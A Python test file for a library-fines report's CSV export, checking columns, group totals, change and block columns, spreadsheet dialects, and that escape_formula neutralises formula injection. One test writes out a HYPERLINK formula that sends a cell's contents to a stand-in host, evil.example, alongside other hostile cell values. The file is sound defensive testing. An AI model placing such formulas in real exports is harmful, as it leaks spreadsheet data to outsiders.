"""CSV: read back it says the same, and no name becomes a formula."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import report_samples as samples
from support.rendered import written

from evergreen_groups.groups import Group
from evergreen_groups.message import Message
from evergreen_groups.render.report.csv import CsvWriter
from evergreen_groups.render.text import escape_formula
from evergreen_groups.report import WAYS, Report

OF_GROUPS = (
    "group,lead_id,lead_name,lead_barcode,lead_group_lead,library,member_count,owing_count,group_fines,"
    "highest_own_fines,over_limit_count,no_member_over_limit,complete,hidden_member_count,hidden_fines"
)
OF_MEMBERS = (
    "member_id,member_barcode,member_name,member_library,member_own_fines,member_over_limit,member_group_lead,"
    "member_limit"
)
OF_CHANGES = "change,group_fines_before,difference,formerly"
OF_BLOCKS = "member_blocked_in_evergreen,member_difference"
GROUP_DETAILS = (
    "kinds,kinds_not_known,kinds_complete,owing_since,last_payment,items_overdue,items_lost,items_complete,returnable"
)
MEMBER_DETAILS = (
    "member_kinds,member_owing_since,member_last_payment,member_items_overdue,member_items_lost,member_juvenile,"
    "member_expired,member_barred,member_profile"
)
LAST = (
    "owing_count_at_least,highest_own_fines_at_least,over_limit_count_at_least,items_overdue_at_least,"
    "items_lost_at_least,first_of_group,age_band,contact_id,contact_name,contact_role,contact_day_phone,"
    "contact_evening_phone,contact_other_phone,contact_email,contact_address,contact_invalid,contact_withheld,"
    "in_collections,collections_since"
)
AMOUNT_COLUMNS = {
    "group_fines", "highest_own_fines", "highest_own_fines_at_least", "hidden_fines", "member_own_fines",
    "member_limit", "group_fines_before", "difference", "kinds_not_known",
}  # fmt: skip
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d\d)?")


def csv_text(report: Report, **options: Any) -> str:
    return written(report, "csv", **options)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def taken_back(cell: str) -> str:
    """What a reader gets who removes the apostrophe that makes a cell escape_formula."""
    sign = r"[\s\x00-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@＝＋－＠]"
    return cell[1:] if re.match(rf"'+([\t\r\n]|{sign})", cell) else cell


def test_one_row_for_each_member() -> None:
    report = samples.sample_report()
    read = rows(csv_text(report))
    members = [(group, one) for group in report.groups for one in group.members]
    assert len(read) == len(members)
    for row, (group, one) in zip(read, members, strict=True):
        assert row["group"] == str(group.number)
        assert row["group_fines"] == ("" if group.group_fines is None else str(group.group_fines))
        assert row["no_member_over_limit"] == str(group.no_member_over_limit).lower()
        assert row["lead_name"] == group.lead.name
        assert row["member_id"] == str(one.id)
        assert row["member_name"] == one.name
        assert row["member_barcode"] == (one.barcode or "")
        assert row["member_own_fines"] == f"{one.own_fines:.2f}"
        assert row["member_limit"] == "5.00"
    assert "-3.25" in [row["member_own_fines"] for row in read], "a credit stays a number"


def test_each_member_has_the_limit_that_counts_for_them() -> None:
    assert [row["member_limit"] for row in rows(csv_text(samples.report_with_limits()))] == ["5.00", "2.00", ""]


def test_one_row_for_each_group_without_details() -> None:
    text = csv_text(samples.sample_report(), details=False)
    assert text.split("\r\n")[0] == ",".join((OF_GROUPS, OF_CHANGES, GROUP_DETAILS, LAST))
    assert [row["group"] for row in rows(text)] == ["1187", "902", "2240", "85", "31007"]


def test_incomplete_groups() -> None:
    read = {row["group"]: row for row in rows(csv_text(samples.sample_report(), details=False))}
    assert (read["902"]["complete"], read["902"]["hidden_member_count"]) == ("true", "0")
    counts = ("owing_count", "highest_own_fines", "over_limit_count")
    shown = {group: [(row[name], row[f"{name}_at_least"]) for name in counts] for group, row in read.items()}
    assert shown["902"] == [("6", "6"), ("5.00", "5.00"), ("0", "0")]
    assert shown["2240"] == [("", "2"), ("", "12.00"), ("", "2")]
    assert [read[group]["group_fines"] for group in ("2240", "31007")] == ["28.39", ""]
    assert (read["2240"]["complete"], read["2240"]["hidden_member_count"]) == ("false", "2")
    assert (read["2240"]["hidden_fines"], read["31007"]["hidden_fines"]) == ("6.40", "")


@pytest.mark.parametrize("details", [True, False])
def test_what_is_summed_by_group_adds_up_in_the_rows_that_have_it_once(details: bool) -> None:
    report = samples.changed_report()
    once = [row for row in rows(csv_text(report, details=details)) if row["first_of_group"] == "true"]
    assert [row["group"] for row in once] == [str(group.number) for group in report.groups]
    known = [row["group_fines"] for row in once if row["group_fines"]]
    assert sum(map(Decimal, known)) == sum(group.group_fines or 0 for group in report.groups)
    assert sum(int(row["member_count"]) for row in once) == report.totals.member_count
    at_least = sum(int(row["over_limit_count_at_least"]) for row in once)
    assert at_least == report.totals.over_limit_count.at_least


def test_header_alone_when_empty() -> None:
    columns = (OF_GROUPS, OF_MEMBERS, OF_CHANGES, OF_BLOCKS, GROUP_DETAILS, MEMBER_DETAILS, LAST)
    header = csv_text(samples.empty_report())
    assert header.startswith(",".join(columns)), "new columns are last"
    assert header.count("\r\n") == 1
    assert header.endswith("\r\n")


def test_over_the_limit_and_blocked_in_evergreen_are_columns_of_their_own() -> None:
    read = {row["member_id"]: row for row in rows(csv_text(samples.blocked_report()))}
    found = {
        id: [row["member_over_limit"], *(row[column] for column in OF_BLOCKS.split(","))] for id, row in read.items()
    }
    assert found["412"] == ["true", "PATRON_EXCEEDS_FINES at CONS, since 2026-08-01", ""]
    assert found["413"] == ["true", "", "not-yet-blocked"]
    assert found["977"] == ["false", "PATRON_EXCEEDS_FINES at CONS, by staff", "now-within-limit"]
    assert found["1203"] == ["false", "", ""]
    assert all(row[column] == "" for row in rows(csv_text(samples.sample_report())) for column in OF_BLOCKS.split(","))


def test_changes_are_in_columns_behind_those_of_members() -> None:
    read = {row["group"]: row for row in rows(csv_text(samples.changed_report(), details=False))}
    shown = {group: [row[column] for column in OF_CHANGES.split(",")] for group, row in read.items()}
    assert shown == {
        "1187": ["worse", "1204.00", "85.35", ""],
        "902": ["new", "", "", "77"],
        "2240": ["better", "40.00", "-11.61", "11"],
        "85": ["unchanged", "25.25", "0.00", "84 85"],
        "31007": ["unchanged", "", "", ""],
        "611": ["cleared", "1260.10", "-1257.10", ""],
        "17": ["cleared", "", "", ""],
    }
    cleared = [read["611"][name] for name in ("library", "group_fines", "lead_name")]
    assert cleared == ["BR1", "", "Featherstonehaugh, Hildegard Maria"]


def test_cleared_groups_have_one_row_next_to_the_members() -> None:
    read = rows(csv_text(samples.changed_report()))
    assert [row["group"] for row in read if not row["member_id"]] == ["611", "17"]
    assert {row["change"] for row in read if row["group"] == "1187"} == {"worse"}
    assert all(row[column] == "" for row in rows(csv_text(samples.sample_report())) for column in OF_CHANGES.split(","))


def test_for_spreadsheets() -> None:
    plain = csv_text(samples.sample_report())
    assert (
        csv_text(samples.sample_report(), dialect="spreadsheet")
        == csv_text(samples.sample_report(), bom=True)
        == "\ufeff" + plain
    )
    semicolons = csv_text(samples.sample_report(), dialect="semicolon")
    assert semicolons.startswith("\ufeffgroup;lead_id;lead_name")
    read = list(csv.DictReader(io.StringIO(semicolons.removeprefix("\ufeff")), delimiter=";"))
    for one, other in zip(read, rows(plain), strict=True):
        for name, value in other.items():
            assert one[name] == (value.replace(".", ",") if name in AMOUNT_COLUMNS else value), name
    assert read[0]["group_fines"] == "1289,35"


def test_formulas_are_made_harmless_and_half_a_surrogate_pair_is_replaced() -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    report = samples.report_of([Group(1, (samples.member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
    [row] = rows(csv_text(report))
    assert row["member_name"] == row["lead_name"] == "'" + hostile
    assert (row["member_barcode"], row["member_library"], row["library"]) == ("'-1+1", "'@SUM(A1)", "'@SUM(A1)")
    report = samples.report_of([Group(1, (samples.member(1, "Smith\ud83d", "30.00"),))])
    csv_text(report).encode("utf-8")
    assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"


def test_a_message_is_text() -> None:
    """Like every subclass of ``str``."""
    assert CsvWriter(samples.empty_report())._joined([str.strip, lambda text: text], Message("=1")) == "'=1,'=1"


@pytest.mark.parametrize("sign", "=+-@＝")
@pytest.mark.parametrize("before", [" ", "  ", "\u00a0", "\v", "\f", "\ufeff", "\u200b", "\u3000", "\x85", "\x1c"])
def test_blanks_before_a_formula_make_no_difference(before: str, sign: str) -> None:
    text = f"{before}{sign}1+1"
    assert escape_formula(text) == f"'{text}"
    assert escape_formula(f"{before}Smith") == f"{before}Smith"
    assert taken_back(escape_formula(text)) == text


@given(samples.hostile_texts)
def test_the_apostrophe_can_be_taken_back(text: str) -> None:
    assert not escape_formula(text).startswith(FORMULA_SIGNS)
    assert taken_back(escape_formula(text)) == text


@settings(deadline=None, max_examples=25)
@given(samples.hostile_reports() | samples.hostile_changed_reports(), st.booleans())
def test_hostile_names_read_back(report: Report, bom: bool) -> None:
    text = csv_text(report, bom=bom)
    text.encode("utf-8")
    read = rows(text.removeprefix("\ufeff"))
    members = [one for group in report.groups for one in group.members]
    cleared = [change.library for change in report.changes.cleared] if report.changes else []
    assert [taken_back(row["library"]) for row in read[len(members) :]] == cleared
    assert all(not cell.startswith(FORMULA_SIGNS) or NUMBER.fullmatch(cell) for row in read for cell in row.values())
    assert not any(None in row for row in read)
    del read[len(members) :]
    assert [taken_back(row["member_name"]) for row in read] == [one.name for one in members]
    assert [taken_back(row["member_barcode"]) for row in read] == [one.barcode or "" for one in members]
    assert [row["member_own_fines"] for row in read] == [f"{one.own_fines:.2f}" for one in members]
    for row in read:
        if report.contacts is not None:
            contact = report.contacts[int(row["group"])]
            assert [taken_back(row[f"contact_{way}"]) for way in WAYS] == [getattr(contact, way) for way in WAYS]
